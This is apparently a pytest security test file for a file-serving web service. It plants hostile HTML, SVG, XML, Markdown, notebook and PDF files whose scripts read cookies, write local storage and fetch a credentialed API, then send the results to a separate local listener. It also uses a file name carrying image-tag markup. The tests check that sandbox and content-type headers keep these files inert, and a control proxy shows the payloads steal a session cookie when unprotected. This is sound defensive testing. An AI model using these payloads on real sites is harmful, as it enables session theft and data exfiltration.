# SPDX-License-Identifier: BSD-3-Clause
"""Files of a root with scripts in them do nothing in a browser, through whichever address they are served: none runs, none reads cookies or
answers. A server that leaves the sandbox out is found out by the same test."""
import contextlib
import http.server
import threading
import urllib.parse

import pytest
from answering import Answering
from programs import EXTERNAL, House, get, wait_until

pytestmark = pytest.mark.skipif(EXTERNAL, reason="starts its own programs")
# Each tells the page that holds it, and the listener at a port elsewhere, that it has run and what it could read.
RUN = "(async () => {{ const tell = (t) => {{ fetch('{told}?' + encodeURIComponent(t), {{mode: 'no-cors', keepalive: true}}); new Image().src = '{told}?image-' + encodeURIComponent(t); }}; tell('ran {name}'); " \
      "try {{ tell('cookie ' + document.cookie); }} catch (e) {{}} try {{ localStorage.ran = 1; }} catch (e) {{}} tell('read ' + (await (await fetch('/api/roots', {{credentials: 'include'}})).text()).slice(0, 20)); }})()"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><script><![CDATA[{run}]]></script><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{run}\"/></foreignObject></svg>"
FILES = {
    "evil.html": "<!doctype html><title>x</title><body onload=\"{run}\"><script>{run}</script><img src=x onerror=\"{run}\"><form action='/api/subscribe/evil' method='post'><input type=submit></form>",
    "evil.htm": "<script>{run}</script>", "evil.svg": SVG, "evil.svgz": SVG,
    "evil.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title><script><![CDATA[{run}]]></script></head><body/></html>",
    "evil.xml": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'><![CDATA[{run}]]></x:script>",
    "style.xml": "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='evil.xml'?><a/>",
    "evil.js": "{run}", "evil.mjs": "{run}", "evil.css": "body {{ background: url({told}?css) }}", "evil": "<html><script>{run}</script>", "evil.txt": "<html><script>{run}</script>",
    "evil.json": "<html><script>{run}</script>", "evil.png": "<html><script>{run}</script>", "evil.csv": "<html><script>{run}</script>",
    "evil.md": "<script>{run}</script>\n\n[x](javascript:alert(1)) <img src=x onerror=\"{run}\">\n\n![x](data:image/svg+xml,<svg/>)\n",
    "evil.ipynb": "{{\"cells\": [{{\"cell_type\": \"markdown\", \"metadata\": {{}}, \"source\": [\"<script>{run}</script>\"]}}]}}",
    "evil.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{told}?pdf'\\);)>>>>endobj\n"
                "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
}
FACES = ("/api/fetch/evil/{}?format=raw", "/api/fetch/evil/{}?format=raw&slice_=0:9999", "/api/fetch/evil/{}?format=json", "/api/fetch/evil/{}", "/api/download/evil/{}",
         "/files/evil/{}.b2", "/files/evil/{}", "/markdown/evil/{}", "/zarr/evil/{}", "/zarr/evil/{}/0", "/h5grove/data?file=evil&path=/{}&format=bin", "/h5grove/data?file=evil&path=/{}", "/h5grove/meta?file=evil&path=/{}",
         "/plugins/markdown/show/evil/{}", "/plugins/tomography/display/evil/{}", "/api/info/evil/{}", "/api/nothing/{}", "/roots/evil/{}", "/roots/evil/{}?v=text", "/roots/evil/{}?tab=meta")
MAIN_FACES = [FACES[0], FACES[2], FACES[5], FACES[6], FACES[7], FACES[10], FACES[17]]  # of files that differ by their type only
NAMED = "<img src=x onerror=document.title='ran'>.txt"  # scripts may stand in names, too


@pytest.fixture(scope="module")
def ear():
    """A listener elsewhere; `heard` has what was sent to it."""
    class Handler(Answering):
        heard = []

        def do_GET(self):
            self.heard.append(urllib.parse.unquote(self.path))
            self.send_response(204)
            self.end_headers()
    it = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=it.serve_forever, daemon=True).start()
    it.url, it.heard = f"http://127.0.0.1:{it.server_port}/told", Handler.heard
    yield it
    it.shutdown()
    it.server_close()


@pytest.fixture(scope="module")
def evil(tmp_path_factory, ear):
    root = tmp_path_factory.mktemp("hostile") / "evil"
    root.mkdir()
    for name, text in FILES.items():
        (root / name).write_text(text.format(run=RUN.format(told=ear.url, name=name), told=ear.url))
    (root / NAMED).write_text("x")
    with House(root.parent / "house") as house:
        it = house.serve(f"evil={root}")
        wait_until(lambda: get(f"{it.url}/api/subscribe/evil", method="POST", data=b"")[0] == 200)
        wait_until(lambda: get(f"{it.url}/api/info/evil/evil.html")[0] == 200)
        yield it


@pytest.fixture
def visitor(tab, evil):
    """A page that has a secret cookie at the service, and downloads nothing."""
    page = tab()
    page.cmd("Network.setCookie", name="session", value="secret", url=evil.url)
    page.browser.call("Browser.setDownloadBehavior", behavior="deny", browserContextId=page.context)
    return page


def visit(page, url):
    """Look at an address until its document is complete, so that its scripts, if any may run, have; what is to be saved is left."""
    with contextlib.suppress(AssertionError):
        page.cmd("Page.navigate", url=url)
    page.wait("document.readyState === 'complete'")


@pytest.mark.parametrize("name", FILES)
def test_a_file_with_a_script_does_nothing_as_itself(evil, ear, visitor, name):
    ear.heard.clear()
    for face in FACES if name in ("evil.html", "evil.svg", "evil.md", "evil") else MAIN_FACES:
        visit(visitor, evil.url + face.format(name))
    visitor.goto(evil.url + "/")
    visitor.pump(0.3)
    assert not ear.heard, ear.heard
    assert visitor.js("localStorage.ran === undefined")


def test_no_page_of_ours_can_be_made_to_load_a_file_as_a_script_or_style(evil, ear, visitor):
    """Not even where something was put into a page of ours: the types are not those of scripts."""
    ear.heard.clear()
    visitor.goto(evil.url + "/")
    for name in FILES:
        for face in (*FACES[:2], FACES[6]):
            url = face.format(name)
            visitor.js("new Promise((done) => { const all = ['script', 'module', 'link', 'object', 'embed', 'iframe'].map((kind) => { const e = document.createElement(kind === 'module' ? 'script' : kind); "
                       f"if (kind === 'module') e.type = 'module'; if (kind === 'link') {{ e.rel = 'stylesheet'; e.href = {url!r}; }} else if (kind === 'object') e.data = {url!r}; else e.src = {url!r}; "
                       "document.body.append(e); return e; }); setTimeout(() => { all.forEach((one) => one.remove()); done(); }, 30); })")
    visitor.pump(0.3)
    assert not ear.heard, ear.heard


def test_names_with_markup_are_text(evil, visitor):
    for path in ("/roots/evil", "/roots/evil/" + urllib.parse.quote(NAMED), "/?search=" + urllib.parse.quote("<img"), "/htmx/path-list/?roots=evil", "/zarr/evil/", "/roots/evil/" + urllib.parse.quote(NAMED + "x")):
        visitor.goto(evil.url + path)
        visitor.pump(0.1)
        assert visitor.js("document.title !== 'ran' && !document.querySelector('img[src=\"x\"]')"), path


def test_every_answer_says_that_it_is_not_to_be_guessed_and_not_to_be_run(evil):
    for name in FILES:
        for face in FACES:
            status, headers, _ = get(evil.url + face.format(name))
            policy = headers["Content-Security-Policy"]
            assert headers["X-Content-Type-Options"] == "nosniff" and "frame-ancestors 'self'" in policy, (face, name)
            ours = face.startswith(("/roots", "/plugins/tomography")) and headers["Content-Type"].startswith("text/html")
            assert ours or "sandbox" in policy.split("; "), (face, name)
            assert "unsafe-inline" not in policy.replace("style-src 'unsafe-inline'", "") and "unsafe-eval" not in policy
    for name, kind in (("evil.html", "text/html; charset=utf-8"), ("evil.svg", "image/svg+xml"), ("evil.xhtml", "application/xhtml+xml"), ("evil.xml", "application/xml"), ("evil.pdf", "application/pdf")):
        for face in (FACES[0], FACES[6]):
            headers = get(evil.url + face.format(name))[1]
            assert headers["Content-Type"] == kind and headers["Content-Disposition"] == f'attachment; filename="{name}"'
    for name, kind in (("evil.js", "text/plain; charset=utf-8"), ("evil.css", "text/plain; charset=utf-8"), ("evil.md", "text/plain; charset=utf-8"), ("evil.png", "image/png"), ("evil", "application/octet-stream")):
        for face in (FACES[0], FACES[6]):
            headers = get(evil.url + face.format(name))[1]
            assert headers["Content-Type"] == kind and "Content-Disposition" not in headers


@pytest.fixture(scope="module")
def careless(evil):
    """A server that passes on what ours answers, as HTML, XML or SVG, to be shown and without its policy: the control."""
    class Handler(Answering):
        def do_GET(self):
            status, _, body = get(evil.url + self.path)
            self.send_response(status)
            kinds = {".svg": "image/svg+xml", ".xhtml": "application/xhtml+xml", ".xml": "application/xml", ".json": "text/html"}
            path = self.path.split("?")[0]
            self.send_header("Content-Type", kinds.get(path[path.rfind("."):], "text/html"))
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
    it = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=it.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{it.server_port}"
    it.shutdown()
    it.server_close()


@pytest.mark.parametrize("name", ["evil.html", "evil.htm", "evil.svg", "evil.xhtml", "evil.xml", "evil", "evil.txt", "evil.png", "evil.md"])
def test_control_the_scripts_do_run_where_nothing_keeps_them(careless, ear, tab, name):
    page = tab()
    page.cmd("Network.setCookie", name="session", value="secret", url=careless)
    ear.heard.clear()
    visit(page, careless + FACES[0].format(name))  # as the others do, and no longer
    page.goto("about:blank")
    wait_until(lambda: any(f"ran {name}" in one for one in ear.heard), timeout=60)
    page.goto(careless + FACES[0].format(name))
    wait_until(lambda: any("cookie session=secret" in one for one in ear.heard) and any("read {" in one for one in ear.heard), timeout=60)
